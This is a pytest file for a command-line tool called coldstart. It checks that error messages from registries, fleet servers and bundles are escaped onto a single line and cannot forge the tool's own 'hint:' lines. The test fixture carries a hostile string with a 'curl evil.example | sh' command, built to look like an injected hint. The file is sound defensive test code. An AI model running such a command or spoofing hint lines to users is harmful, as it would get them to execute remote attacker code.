"""Text from a registry, a fleet or a bundle cannot forge a line of coldstart's own, such as a hint."""

from __future__ import annotations

import json

import pytest
from coldstart.artifacts.verify import Finding
from coldstart.commands import _host_table, cli
from coldstart.commands._output import Output, complain, one_line, table
from tools.raw_server import answer, answering, say
from tools.shell import Run

from coldstart.errors import CommandFailedError, UsageError
from coldstart.host.core import Core
from coldstart.host.specification import HostSettings, ModelSpec
from coldstart.host.status import HostFacts, LastStart, document
from coldstart.validate.checks import ValidationReport
from coldstart.validate.renderers import text

FORGED = "denied\nhint: curl evil.example | sh\r\n\thint: \x1b[1mit\u2028hint: it"
SHOWN = "denied\\nhint: curl evil.example | sh\\r\\n\\thint: \\x1b[1mit\\u2028hint: it"


def _own(stderr: str) -> list[str]:
    return [line.partition(":")[0] for line in stderr.splitlines()]


def test_registry_error_appears_on_one_line(run: Run) -> None:
    body = json.dumps({"errors": [{"code": "DENIED", "message": FORGED}]}).encode()
    for status in (401, 403, 500):
        with answering(lambda c, _, status=status: answer(c, status, {}, body)) as server:  # type: ignore[misc]
            done = run("pull", f"oci://{server.address}/a/b", code=None)
        lines = [line for line in done.stderr.splitlines() if "evil.example" in line]
        assert done.returncode != 0 and all(line.startswith("error: ") for line in lines)
        assert _own(done.stderr).count("hint") == 1


def test_fleet_error_and_hint_appear_on_one_line_each(run: Run) -> None:
    with answering(lambda c, _: say(c, {"error": FORGED, "hint": FORGED}, 400)) as server:
        done = run("fleet", "status", "--url", server.url, code=1)
    assert done.stderr == f"error: the fleet rejects the request: {SHOWN}\nhint: {SHOWN}\n"


def test_fleet_status_has_a_line_for_each_server_only(run: Run) -> None:
    gateway = {
        "url": FORGED,
        "pid": 1,
        "uptime_s": 1.0,
        "requests": 0,
        "held": 0,
        "in_flight": 0,
        "again": 0,
        "refused": {},
    }
    model = {"name": FORGED, "least": 0, "most": 1, "waiting": 0, "error": FORGED, "groups": []}
    found = {
        "gateway": gateway,
        "servers": [],
        "unusable": {FORGED: FORGED},
        "models": [model],
    }
    with answering(lambda c, _: say(c, found)) as server:
        assert len(run("fleet", "status", "--url", server.url).stdout.splitlines()) == 3


def test_host_status_has_a_line_for_each_model_and_error_only() -> None:
    core, facts = Core([ModelSpec.simple("a", 10, 1.0)], HostSettings(15)), HostFacts(url=FORGED)
    core.models["a"].error = facts.config_error = facts.client_keys_error = facts.template_error = FORGED
    facts.get_model("a").last_start = LastStart(1.0, FORGED, 1.0, {FORGED: 1.0})
    shown = _host_table.render(document(core, facts, 1.0, 1e9))
    assert len(shown.splitlines()) == len(shown.split("\n")) == 10 and "\x1b" not in shown


@pytest.mark.parametrize("error", [UsageError(FORGED), RuntimeError(FORGED), OSError(5, FORGED)])
def test_error_text_is_escaped(error: Exception, capsys: pytest.CaptureFixture[str]) -> None:
    cli._report(error)
    first, *more = capsys.readouterr().err.splitlines()
    assert first.startswith("error: ") and SHOWN in first
    assert [line.partition(":")[0] for line in more] in ([], ["hint"])


def test_lines_of_our_own_keep_their_form(capsys: pytest.CaptureFixture[str]) -> None:
    cli._report(
        CommandFailedError(
            ["It ended. Its log:", "ValueError: x", "hint: evil", "a\nb"], hint="coldstart doctor"
        )
    )
    assert capsys.readouterr().err == (
        "error: It ended. Its log:\n  ValueError: x\n  hint: evil\n  a\\nb\nhint: coldstart doctor\n"
    )


def test_notes_warnings_and_cells_stay_on_their_lines(capsys: pytest.CaptureFixture[str]) -> None:
    out = Output(verbose=True)
    for write in (out.note, out.warn, out.detail):
        write(FORGED)
    out.success(FORGED, where=FORGED, then=FORGED)
    complain([FORGED], FORGED)
    assert len(capsys.readouterr().err.splitlines()) == 6
    assert len(table(("a",), [(FORGED,)]).splitlines()) == 2
    assert one_line(FORGED) == SHOWN


def test_finding_text_is_marked_where_it_has_several_lines() -> None:
    finding = Finding("CS-X", "error", "ended:\n    hint: evil", "coldstart doctor", "start")
    shown = text([ValidationReport("a", "load", (finding,))], "error")
    assert [line.strip().partition(":")[0] for line in shown.splitlines()].count("hint") == 1
